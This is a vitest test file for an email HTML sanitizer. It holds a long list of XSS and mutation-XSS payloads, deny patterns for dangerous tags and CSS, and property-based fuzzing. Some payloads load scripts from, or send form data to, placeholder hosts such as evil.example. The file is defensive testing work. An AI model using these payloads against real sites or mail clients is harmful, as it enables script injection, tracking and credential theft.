import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { MAX_HTML, sanitizeMailHtml } from './sanitize-html.ts';

/** Every element of the result with its attributes and text, as a parser sees them. */
function elements(html: string): { name: string; attributes: Record<string, string>; text: string }[] {
  const found: { name: string; attributes: Record<string, string>; text: string }[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => void found.push({ name, attributes: { ...attributes }, text: '' }),
    ontext: (text) => {
      if (found.length) found.at(-1)!.text += text;
    },
  });
  parser.end(html);
  return found;
}

const FORBIDDEN_TAGS =
  /^(script|iframe|frame|frameset|object|embed|applet|svg|math|form|input|button|select|textarea|link|meta|base|template|noscript|xmp|plaintext|title|video|audio|source|track|picture|portal|dialog|marquee|bdo|head)$/;

const HARMFUL_CSS =
  /url|image-set|@import|@font-face|@keyframes|expression|javascript|fixed|sticky|behavior|binding|animation|\/\*|</i;

/** CSS without its strings, which can say anything. */
const cssOf = (text: string) => text.replace(/"[^"]*"|'[^']*'/g, '""');

/** Fails if anything runs, loads by itself, links to an unknown scheme or follows the reader while scrolling. */
function expectHarmless(html: string): void {
  for (const { name, attributes, text } of elements(html)) {
    expect(name).not.toMatch(FORBIDDEN_TAGS);
    if (name === 'style') expect(cssOf(text)).not.toMatch(HARMFUL_CSS);
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(attribute).not.toMatch(
        /^(on|xlink|xmlns|form)|^(name|srcset|background|poster|action|ping|lowsrc|dynsrc)$/i,
      );
      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:)/);
      if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);/i);
      if (attribute === 'data-remote-src') expect(value).toMatch(/^https?:/);
      if (attribute === 'style') expect(cssOf(value)).not.toMatch(HARMFUL_CSS);
    }
  }
}

describe('hostile HTML', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)" onload=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src=`x` onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><script>alert(1)</script>"></noframes>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><a title="</title><script>alert(1)</script>">',
    '<iframe><p title="</iframe><script>alert(1)</script>"></iframe>',
    '<plaintext><script>alert(1)</script>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<template><script>alert(1)</script></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&NewLine;:alert(1)">x</a>',
    '<a href=" \u00a0javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://example.org/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:javascript:1">x</a>',
    '<a href="//evil.example" ping="https://evil.example/p">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html,<script>">',
    '<img src="data:image/png,<svg onload=alert(1)>">',
    '<img src="blob:x">',
    '<img srcset="https://t.example/a 1x, https://t.example/b 2x">',
    '<picture><source srcset="https://t.example/a"><img src="https://t.example/b"></picture>',
    '<input type=image src="https://t.example/a">',
    '<video poster="https://t.example/a" src="https://t.example/b"><source src="https://t.example/c"></video>',
    '<audio src="https://t.example/a" autoplay></audio>',
    '<table background="https://t.example/a"><tr><td background="https://t.example/b">x</td></tr></table>',
    '<body background="https://t.example/a">x</body>',
    '<link rel=stylesheet href="https://t.example/a.css">',
    '<link rel="dns-prefetch" href="//t.example"><link rel=preconnect href=//t.example>',
    '<link rel=prefetch href=https://t.example><link rel=icon href=https://t.example>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="x-dns-prefetch-control" content="on">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
    '<button form=f formaction=javascript:alert(1)>x</button>',
    '<isindex action=javascript:alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src=javascript:alert(1)></frameset>',
    '<object data="javascript:alert(1)"><param name=x></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x></applet>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<details open ontoggle=alert(1)>x</details>',
    '<style>@import url(https://t.example/a.css); body{background:url(https://t.example/b)}</style>',
    '<style>input[value^=a]{background:url(https://t.example/a)}</style>',
    '<p style="background:url(https://t.example/a)">x</p>',
    '<p style="background:URL( \'https://t.example/a\' )">x</p>',
    '<p style="background:u\\72l(https://t.example/a)">x</p>',
    '<p style="background:u/**/rl(https://t.example/a)">x</p>',
    '<p style="background-image:image-set(\'https://t.example/a\' 1x)">x</p>',
    '<p style="background:var(--x);--x:url(https://t.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="wid\\th:e\\xpression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
    '<p style="pos\\69tion:absolute">x</p>',
    '<p style="list-style:url(https://t.example/a);content:url(https://t.example/b);cursor:url(https://t.example/c)">x</p>',
    '<p style="font-family:\'a;position:fixed\'">x</p>',
    "<p style='color:red;\"><img src=x onerror=alert(1)>'>x</p>",
    '<p style="margin:-9999px;text-indent:-99em">x</p>',
    '<a id=location name=cookie class=admin href=https://x.example>x</a><img name=getElementById>',
    '<p id="__proto__" constructor=1 __proto__=1>x</p>',
    '<a href="https://x.example" style="display:block;position:absolute">x</a>',
    '<div title="&lt;/div&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<img alt="`><script>alert(1)</script>" src=x>',
    '<a href="https://x.example/&quot;onmouseover=alert(1) x=&quot;">x</a>',
    '<\u0000script>alert(1)</script>',
    '<img src=x\u0000 onerror\u0000=alert(1)>',
    '<div\fonclick=alert(1)>x</div>',
    '<portal src=https://evil.example></portal><dialog open>x</dialog>',
    '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
    '<keygen autofocus onfocus=alert(1)><bgsound src=https://t.example/a>',
    '<image src=https://t.example/a onerror=alert(1)>',
    '<layer src=https://t.example></layer><ilayer src=https://t.example>',
  ])('%s', (html) => {
    const once = sanitizeMailHtml(html);
    expectHarmless(once);
    expect(sanitizeMailHtml(once.replaceAll('data-remote-src', 'src'))).toBe(once);
  });

  test('stays harmless however the pieces are combined', () => {
    const piece = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '`',
        '=',
        '/',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&lt;',
        '&#60;',
        '&quot;',
        '\0',
        '\n',
        ' ',
      ],
      ...[
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '</style>',
        '<title>',
        '</title>',
        '<xmp>',
        '<noscript>',
        '<p title="',
      ],
      ...[
        '<img src=x onerror=alert(1)>',
        '<a href=javascript:1>',
        '<script>',
        '</script>',
        '<p style="',
        'color:red',
        'url(x)',
      ],
      ...[
        '<table>',
        '<td>',
        '</p>',
        '<form>',
        '<iframe>',
        '<textarea>',
        '<plaintext>',
        'onload=',
        'x',
        '<b>',
        '</b>',
        '\\',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        expectHarmless(sanitizeMailHtml(pieces.join('')));
      }),
      { numRuns: 1500 },
    );
  });
});

describe('mail HTML', () => {
  test('keeps the usual layout of email', () => {
    const html =
      '<table width="600" align="center" bgcolor="#ffffff" cellpadding="0" border="0" style="border-collapse:collapse">' +
      '<tr><td style="padding:10px 0;font-family:\'Segoe UI\', Arial;color:rgb(10, 20, 30)" valign="top" colspan="2">' +
      '<h1>Title</h1><p>Text <b>bold</b> <font color="#ff0000" size="2">red</font></p></td></tr></table>';
    const kept = sanitizeMailHtml(html);
    expect(kept).toContain(
      '<table width="600" align="center" bgcolor="#ffffff" cellpadding="0" border="0" style="border-collapse:collapse">',
    );
    expect(kept).toContain("font-family:'Segoe UI', Arial;color:rgb(10, 20, 30)");
    expect(kept).toContain('<font color="#ff0000" size="2">red</font>');
  });

  test('opens links in a new tab and shows their real destination', () => {
    expect(sanitizeMailHtml('<a href="https://example.org/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeMailHtml('<a href="mailto:a@example.org">x</a>')).toContain('href="mailto:a@example.org"');
    expect(sanitizeMailHtml('<a href="https://аpple.example">x</a>')).toContain(
      'href="https://xn--pple-43d.example/"',
    );
    expect(sanitizeMailHtml('<a href="/relative">x</a>')).toBe('<a>x</a>');
  });

  test('blocks remote images, names attached ones and keeps embedded ones', () => {
    expect(sanitizeMailHtml('<img src="https://t.example/p.gif?u=1" width="1" alt="">')).toBe(
      '<img width="1" alt="" data-remote-src="https://t.example/p.gif?u=1" />',
    );
    expect(sanitizeMailHtml('<img src="//t.example/p.gif">')).toBe(
      '<img data-remote-src="https://t.example/p.gif" />',
    );
    expect(sanitizeMailHtml('<img src="cid:logo%40x">')).toBe('<img data-cid="logo@x" />');
    expect(sanitizeMailHtml('<img src="data:image/png;base64,AAAA">')).toBe(
      '<img src="data:image/png;base64,AAAA" />',
    );
  });

  test('removes characters that reverse the reading direction', () => {
    expect(sanitizeMailHtml('<b title="a&#x202e;b">evil&#8238;moc.elpmaxe</b>')).toBe(
      '<b title="ab">evilmoc.elpmaxe</b>',
    );
  });

  test('drops comments and Outlook conditional blocks', () => {
    expect(
      sanitizeMailHtml('a<!--[if mso]><p>only there</p><![endif]--><![if !mso]><b>b</b><![endif]>'),
    ).toBe('a<b>b</b>');
  });

  test('cuts HTML at one megabyte and shows extreme nesting as text', () => {
    expect(sanitizeMailHtml('x'.repeat(MAX_HTML + 100))).toHaveLength(MAX_HTML);
    expect(sanitizeMailHtml('<b>'.repeat(5000))).toMatch(/^<pre>&lt;b&gt;/);
    expect(elements(sanitizeMailHtml(`${'<div>'.repeat(900)}deep`)).length).toBeLessThan(200);
  });
});
